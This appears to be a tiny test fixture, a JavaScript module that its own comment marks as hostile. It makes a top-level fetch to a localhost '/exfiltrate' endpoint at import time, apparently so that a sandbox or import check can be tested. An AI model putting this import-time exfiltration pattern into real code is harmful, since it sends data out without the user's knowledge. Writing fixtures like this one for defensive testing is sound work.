// Hostile: makes an HTTP request at import time.
export const res = await fetch("http://127.0.0.1:8080/exfiltrate");
